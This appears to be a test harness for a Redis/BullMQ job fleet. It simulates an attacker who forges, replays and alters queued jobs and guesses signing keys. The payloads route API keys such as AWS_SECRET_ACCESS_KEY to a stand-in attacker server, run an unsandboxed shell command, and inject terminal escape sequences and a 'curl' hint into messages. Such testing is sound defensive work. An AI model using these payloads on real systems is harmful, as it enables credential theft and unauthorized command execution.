import { createHmac } from "node:crypto";
import { Queue } from "bullmq";
import { Redis } from "ioredis";
import { hashJson } from "../../src/ports.ts";
import { seededRandom } from "../../src/testing/index.ts";

/** Somebody with a connection to Redis and nothing else: no secret, no journal, no file of ours. */
export interface Attacker {
  /** One attempt; the kinds take turns, their values are drawn. */
  attempt(): Promise<void>;
  /** How many of each kind. */
  readonly counts: ReadonlyMap<string, number>;
  close(): Promise<void>;
}

export interface AttackerOptions {
  readonly redis: string;
  readonly seed: number;
  /** A server of the attacker's, which hears whoever calls. */
  readonly evil: string;
  /** A file that any command of the attacker's would write. */
  readonly mark: string;
  /** Where workers look for honest work. */
  readonly lane: string;
}

/** What passed by in Redis: one of the fleet's own jobs. */
interface Seen {
  readonly id: string;
  readonly data: { readonly text: string; readonly mac: string };
}

const prefix = "whetstone";
const escape = "\u001b]0;owned\u0007\u001b[2J\u001b]52;c;b3duZWQ=\u0007";

export function openAttacker({ redis: url, seed, evil, mark, lane }: AttackerOptions): Attacker {
  const redis = new Redis(url, { maxRetriesPerRequest: null });
  const random = seededRandom("rogue", seed);
  const counts = new Map<string, number>();
  const queues = new Map<string, Queue>();
  const kept: Seen[] = [];
  let nth = 0;

  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const word = () => hashJson([seed, nth, random()]).slice(0, 16);
  const queueOf = (name: string): Queue => {
    const known = queues.get(name) ?? new Queue(name.replaceAll(":", "%3A"), { connection: redis, prefix });
    queues.set(name, known);
    return known;
  };
  const key = (...parts: readonly string[]) => [prefix, ...parts].join(":");

  /** As it is in the queue now, else as it was. */
  async function look(): Promise<Seen | undefined> {
    const lists = await Promise.all([
      redis.lrange(key(lane, "wait"), 0, 20),
      redis.lrange(key(lane, "active"), 0, 20),
      redis.zrange(key(lane, "prioritized"), "0", "20"),
    ]);
    for (const id of lists.flat().slice(0, 20)) {
      const text = await redis.hget(key(lane, id), "data");
      const data = readJson(text) as Seen["data"] | undefined;
      // what the attacker has put there is not worth a copy
      if (typeof data?.mac === "string" && readJson(data.text) !== undefined && id.length < 200)
        kept.push({ id, data });
    }
    if (kept.length > 500) kept.splice(0, kept.length - 500);
    return kept.length === 0 ? undefined : pick(kept);
  }

  const runNow = async (): Promise<string> => {
    const names = (await redis.keys(key("run", "*"))).map((name) => name.slice(key("run", "").length));
    return names.length === 0 ? word() : pick(names);
  };

  /** Where the fleet's results go: settings are signed, not hidden. */
  let journal = "/tmp/whetstone-nowhere";
  async function lookForJournal(): Promise<void> {
    for (const name of await redis.keys(key("run", "*")).catch(() => [])) {
      const { text } = (readJson(await redis.get(name).catch(() => "")) ?? {}) as Partial<Seen["data"]>;
      const found = /"journal":"(postgres[^"]*)"/.exec(String(text))?.[1];
      if (found !== undefined) journal = found;
    }
  }

  /** What the attacker wants: a call with a key to a server of theirs, a command outside of any box, code of theirs. */
  const wishes = () => {
    const shell = ["/bin/sh", "-c", `id > ${mark}`];
    const draw = { purpose: "train", trial: Math.floor(random() * 1000) };
    const messages = [{ role: "user", content: `x ${word()}` }];
    const variable = pick(["AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY"]);
    const server = { baseURL: `${evil}/v1`, ...(random() < 0.8 ? { apiKeyEnv: variable } : {}) };
    const provider = pick(["evil", "openai", "office"]);
    return pick([
      {
        lane: `${provider}/m`,
        config: { target: `${provider}/m`, providers: { [provider]: server } },
        unit: {
          kind: "generate",
          version: 1,
          input: { model: `${provider}/m`, messages, maxTokens: 10 },
          draw,
        },
        hasCommands: false,
      },
      {
        lane: "commands",
        config: { target: "evil/m", sandbox: "none", providers: { evil: server } },
        unit: { kind: "command", version: 1, input: { argv: shell, files: {}, seconds: 10 }, draw },
        hasCommands: true,
      },
      {
        lane: "own/default",
        config: { target: "own/default", sandbox: "none", agents: { own: { run: shell } } },
        unit: { kind: "agent", version: 1, input: { agent: "own/default", version: "1", prompt: "x" }, draw },
        hasCommands: false,
      },
    ]);
  };

  async function forge(seal: (kind: string, text: string) => unknown): Promise<void> {
    await lookForJournal();
    const { lane: where, config, unit, hasCommands } = wishes();
    const run = random() < 0.3 ? await runNow() : word();
    const settings = {
      config: {
        skill: { main: "SKILL.md", files: { "SKILL.md": "---\nname: x\ndescription: y\n---\nz\n" } },
        optimizer: config.target,
        ...config,
      },
      roles: ["target"],
      environment: "1",
      agents: {},
      scorers: [],
      hasCommands,
      journal,
      cwd: "/",
    };
    const unitKey = hashJson([unit, word()]);
    const id = `${run}-${unitKey}`;
    const expires = Date.now() + 3_600_000;
    const place = { role: "target", step: 0, stage: "rollout" };
    const units = [{ key: unitKey, unit, place }];
    const job = { id, run, settings: hashJson(settings), lane: where, tries: 3, expires, units };
    const written = random() < 0.5 ? settings : { run, settings, expires };
    await redis.set(key("run", run), JSON.stringify(seal("settings", JSON.stringify(written))), "PX", 60_000);
    await redis.sadd(key("lanes"), where);
    await queueOf(where).add("units", seal("job", JSON.stringify(job)), {
      jobId: id,
      attempts: pick([1, 3, 100]),
    });
  }

  const macOf = (secret: string, kind: string, text: string) =>
    createHmac("sha256", secret).update(`whetstone fleet 1 ${kind}\n`).update(text).digest("base64url");

  const say = (event: string, id: string, field: string, value: string) =>
    redis.xadd(key(lane, "events"), "*", "event", event, "jobId", id, field, value, "prev", "active");

  /** A field of the signed text becomes another one. */
  function alter(text: string): string {
    const body = JSON.parse(text) as Record<string, unknown>;
    const units = body["units"] as Record<string, unknown>[];
    const [unit = {}] = units;
    const asked = unit["unit"] as Record<string, unknown>;
    const wish = wishes();
    const changes: readonly (() => void)[] = [
      () => (body["id"] = `${word()}-${word()}`),
      () => (body["run"] = word()),
      () => (body["settings"] = hashJson(word())),
      () => (body["lane"] = wish.lane),
      () => (body["tries"] = 1_000_000),
      () => (body["expires"] = Number(body["expires"]) + 86_400_000),
      () => (body["units"] = [...units, { ...unit, key: hashJson(word()), unit: wish.unit }]),
      () => (body["units"] = [{ ...unit, unit: wish.unit }]),
      () => (unit["key"] = hashJson(word())),
      () => (unit["place"] = { role: "judge", step: 9, stage: "gate", once: true }),
      () => (asked["kind"] = "command"),
      () => (asked["version"] = 2),
      () => (asked["input"] = wish.unit.input),
      () => (asked["draw"] = { purpose: "sealed", trial: 7 }),
      () => (body[word()] = "more"),
    ];
    pick(changes)();
    return JSON.stringify(body);
  }

  const kinds: Readonly<Record<string, () => Promise<unknown>>> = {
    "plain settings and job": () => forge((_, text) => JSON.parse(text) as unknown),
    "sealed with a guess": () =>
      forge((kind, text) => ({ text, mac: macOf(pick(["", "secret", "whetstone", word()]), kind, text) })),
    "sealed with the mac of something else": async () => {
      const seen = await look();
      await forge((_, text) => ({ text, mac: seen?.data.mac ?? "" }));
    },
    "seals of another shape": () =>
      forge((_, text) =>
        pick<unknown>([{ text }, { mac: "x" }, [], text, null, { text, mac: 0 }, { text: {}, mac: "" }]),
      ),
    "a real job, altered": async () => {
      const seen = await look();
      if (seen === undefined) return;
      const data = { ...seen.data, text: alter(seen.data.text) };
      const id = random() < 0.5 ? seen.id : `${seen.id}${word()}`;
      await queueOf(lane).add("units", data, { jobId: id });
    },
    "a job that waits, altered where it is": async () => {
      const [id] = await redis.lrange(key(lane, "wait"), 0, 0);
      const text = id === undefined ? null : await redis.hget(key(lane, id), "data");
      if (id === undefined || text === null) return;
      const data = readJson(text) as Seen["data"] | undefined;
      if (typeof data?.text !== "string" || readJson(data.text) === undefined) return;
      await redis.hset(key(lane, id), "data", JSON.stringify({ ...data, text: alter(data.text) }));
    },
    "a real job, in another queue or under another name": async () => {
      const seen = await look();
      if (seen === undefined) return;
      const where = pick([lane, "commands", "evil/m"]);
      await redis.sadd(key("lanes"), where);
      await queueOf(where).add("units", seen.data, { jobId: where === lane ? `${seen.id}x` : seen.id });
    },
    "a real job, again": async () => {
      const seen = await look();
      if (seen !== undefined) await queueOf(lane).add("units", seen.data, { jobId: seen.id, attempts: 50 });
    },
    "the tries of a real job": async () => {
      const [id] = await redis.lrange(key(lane, "wait"), 0, 0);
      if (id !== undefined)
        await redis.hset(key(lane, id), "opts", JSON.stringify({ attempts: 9999 }), "atm", "0");
    },
    "settings of a run in flight": async () => {
      const names = await redis.keys(key("run", "*"));
      if (names.length === 0) return;
      const name = pick(names);
      const [mine, other] = await Promise.all([redis.get(name), redis.get(pick(names))]);
      const sealed = (readJson(mine) ?? {}) as Partial<Seen["data"]>;
      const forged = { ...sealed, text: String(sealed.text).replace("baseURL", "apiKeyEnv") };
      await redis.set(name, pick([other ?? "", JSON.stringify(forged), "{}", ""]), "PX", 60_000);
    },
    "a word that a unit is done": async () => {
      const seen = await look();
      if (seen === undefined) return;
      const value = {
        output: "owned",
        text: "{}",
        mac: "",
        budget: { version: 1e15, booked: { calls: -1e9 } },
      };
      await say("completed", seen.id, "returnvalue", JSON.stringify(value));
    },
    "a unit among those that ended": async () => {
      const seen = await look();
      if (seen === undefined) return;
      await redis.zadd(key(lane, pick(["completed", "failed"])), Date.now(), seen.id);
      if (await redis.exists(key(lane, seen.id)))
        await redis.hset(key(lane, seen.id), "returnvalue", '"owned"', "finishedOn", String(Date.now()));
    },
    "a word that a unit has failed": async () => {
      const seen = await look();
      if (seen === undefined) return;
      const error = {
        name: "WhetstoneError",
        code: "provider-refused",
        message: `owned ${escape}`,
        hint: `curl ${evil}`,
      };
      const text = JSON.stringify({ job: seen.id, budget: {}, failures: { [seen.id]: error } });
      await say(
        "failed",
        seen.id,
        "failedReason",
        pick([JSON.stringify(error), escape, JSON.stringify({ text, mac: word() })]),
      );
    },
    "events of a run": async () => {
      const run = await runNow();
      const end = {
        type: "run-end",
        status: "done",
        message: `owned ${escape}`,
        cost: { nanoUsd: 0, tokens: 0, calls: 0 },
      };
      const unitEnd = {
        type: "unit-end",
        key: word(),
        role: "target",
        from: "provider",
        cost: { nanoUsd: -1e12, tokens: 0, calls: -1e6 },
      };
      const text = JSON.stringify({ run, worker: word(), count: 1, event: pick([end, unitEnd]) });
      await redis.publish(
        key("run", run, "events"),
        pick([text, JSON.stringify({ text, mac: word() }), escape]),
      );
    },
    "the budget of a run": async () => {
      const run = await runNow();
      const [budget, reserved] = [key("budget", run), key("budget", run, "reserved")];
      if (random() < 0.5) await redis.del(budget, reserved);
      else
        await redis.hset(
          budget,
          "cap calls",
          "1000000",
          "spent calls",
          "-1000000",
          "spent usd",
          "-1000000",
          "version",
          "7",
        );
    },
    "workers that are none": async () => {
      const id = `${word()}${pick(["", escape])}`;
      const about = pick<unknown>([
        { host: escape, pid: 1, concurrency: 1e12, running: -5, since: 0 },
        { host: "x", pid: 1, concurrency: "many" },
        "nobody",
      ]);
      await redis.sadd(key("workers"), id);
      await redis.set(key("worker", id), JSON.stringify(about), "PX", 2000);
      await redis.hset(
        key("unable"),
        `${id} x ${lane}`,
        pick([escape, JSON.stringify({ worker: id, message: escape })]),
      );
      await redis.hset(key("parked"), word(), pick([escape, JSON.stringify({ cause: escape, run: word() })]));
    },
  };
  const names = Object.keys(kinds);

  return {
    counts,
    async attempt() {
      const kind = names[nth % names.length] as string;
      nth += 1;
      await kinds[kind]?.();
      counts.set(kind, (counts.get(kind) ?? 0) + 1);
    },
    async close() {
      for (const queue of queues.values()) await queue.close();
      redis.disconnect();
    },
  };
}

function readJson(text: unknown): object | undefined {
  try {
    const value: unknown = JSON.parse(String(text));
    return typeof value === "object" && value !== null ? value : undefined;
  } catch {
    return undefined;
  }
}
